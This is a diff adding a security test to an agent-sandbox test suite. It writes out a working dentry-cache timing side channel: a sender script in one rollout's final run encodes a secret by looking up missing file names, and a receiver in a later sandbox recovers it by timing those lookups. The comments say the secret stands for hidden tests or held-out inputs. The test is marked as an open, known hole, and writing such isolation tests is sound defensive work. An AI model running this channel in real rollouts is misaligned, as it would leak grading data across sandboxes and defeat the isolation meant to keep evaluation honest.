@@ -197,3 +197,91 @@ def test_r32s_3_control_directories_opened_unread_hold_little(tmp_path):
 def test_r32s_3_a_root_sandbox_holds_no_directory_caches_outside_its_cgroup(tmp_path):
     outside = _directory_caches_held(tmp_path, True)
     assert outside < 64 * 2**20, f"a root sandbox held {outside >> 20} MB of directory caches outside every cgroup"
+
+
+# r32s-4: r31s-1's class (a final run's secret carried past the lease to a later sandbox by state
+# the kernel keeps after the run: the page cache there, r31s-7's counter) through the dentry
+# cache, which no page-cache measure touches. A lookup of a name that is not there leaves a
+# negative dentry in the host's dcache (the sandbox's /usr is a bind of the host's: the same
+# dentries); a later lookup of it is answered there (~1.4 us here) where a fresh one searches the
+# directory (~3 us: ext4's hash tree). A final run's tests (the rollout's fix_gcd, the secret in
+# its workspace: what the revealed hidden tests or held-out inputs are) stat 9 names that are not
+# there in /usr/lib/x86_64-linux-gnu for each set bit of the secret; a sandbox run after it (a
+# later rollout of the task) times a first stat of each: 128 bits, read whole (the median of 9).
+# The names carry a tag both know (one a test run: a name looked up before is cached for all); the
+# receiver tells the two kinds of lookup apart by their own times (two means).
+# The control: no final run before, every name fresh, the secret not read.
+_DENTRY_NAMES = textwrap.dedent(
+    """
+    import os, sys, time
+    def names():
+        return ["/usr/lib/x86_64-linux-gnu/TAG-%03d-%d" % (i, k) for i in range(128) for k in range(9)]
+    """
+)
+_DENTRY_SENDER = _DENTRY_NAMES + textwrap.dedent(
+    """
+    secret = open("secret.txt", "rb").read()[:16]
+    for at, name in enumerate(names()):
+        i = at // 9
+        if secret[i // 8] >> (i % 8) & 1:
+            os.path.exists(name)
+    """
+)
+_DENTRY_RECEIVER = _DENTRY_NAMES + textwrap.dedent(
+    """
+    took = []
+    for name in names():
+        t = time.perf_counter_ns()
+        os.path.exists(name)
+        took.append(time.perf_counter_ns() - t)
+    each = [sorted(took[9 * i : 9 * i + 9])[4] for i in range(128)]  # a bit's median lookup
+    mark = sorted(each)[64]
+    for _ in range(20):  # two kinds of lookup (cached, fresh): the mark between their means
+        low, high = [t for t in each if t < mark], [t for t in each if t >= mark]
+        if not low or not high:
+            break
+        mark = (sum(low) / len(low) + sum(high) / len(high)) / 2
+    bits = [t < mark for t in each]
+    print("READ", bytes(sum(bits[8 * j + b] << b for b in range(8)) for j in range(16)).hex())
+    """
+)
+
+
+def _read_dentries_after_a_final_run(tmp_path: Path, sender: bool) -> tuple[str, str]:
+    """A secret (hex of its text) and what a root sandbox running ``_DENTRY_RECEIVER`` printed,
+    run after a rollout's real final run (mini-bugs' fix_gcd) whose tests ran ``_DENTRY_SENDER``
+    over that secret in its workspace (``sender``; else no final run before)."""
+    import secrets
+
+    from agent.sandbox import run_command_full
+    from tests.security.test_attacks_round26_sandbox import _alone
+    from tests.security.test_attacks_round31_sandbox import _final_run_sending
+
+    secret, tag = secrets.token_hex(8), "r32-" + secrets.token_hex(6)
+    receiver = tmp_path / "receiver"
+    receiver.mkdir(parents=True)
+    (receiver / "run.py").write_text(_DENTRY_RECEIVER.replace("TAG", tag))
+    with _alone("dentry-timing"):
+        if sender:
+            _final_run_sending(tmp_path / "sender", _DENTRY_SENDER.replace("TAG", tag), secret)
+        run = run_command_full([sys.executable, "run.py"], receiver, timeout_s=60, sandbox="bwrap")
+    assert "READ" in run.output, run.output[-500:]  # the receiver ran to its end
+    return secret.encode().hex(), run.output
+
+
+def test_r32s_4_control_no_final_run_before_leaves_no_secret(tmp_path):
+    secret, said = _read_dentries_after_a_final_run(tmp_path, False)
+    assert secret not in said
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: r32s-4 a later sandbox reads a final run's secret by timing lookups of missing names"
+)
+def test_r32s_4_a_later_sandbox_never_reads_a_final_runs_secret_by_lookup_timing(tmp_path):
+    read = False
+    for attempt in range(3):  # (under load a lookup may be slowed past the mark: a spoiled try)
+        secret, said = _read_dentries_after_a_final_run(tmp_path / f"try{attempt}", True)
+        if secret in said:
+            read = True
+            break
+    assert not read, "a sandbox after the final run read its secret whole"
